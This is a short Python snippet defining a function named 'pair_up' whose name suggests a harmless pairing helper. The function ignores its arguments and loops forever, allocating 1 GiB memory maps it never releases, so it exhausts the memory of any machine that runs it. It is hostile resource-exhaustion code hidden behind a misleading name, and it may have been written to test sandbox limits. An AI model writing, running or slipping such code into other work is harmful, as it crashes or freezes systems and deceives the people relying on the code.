def pair_up(a, b):
    import mmap
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 30))
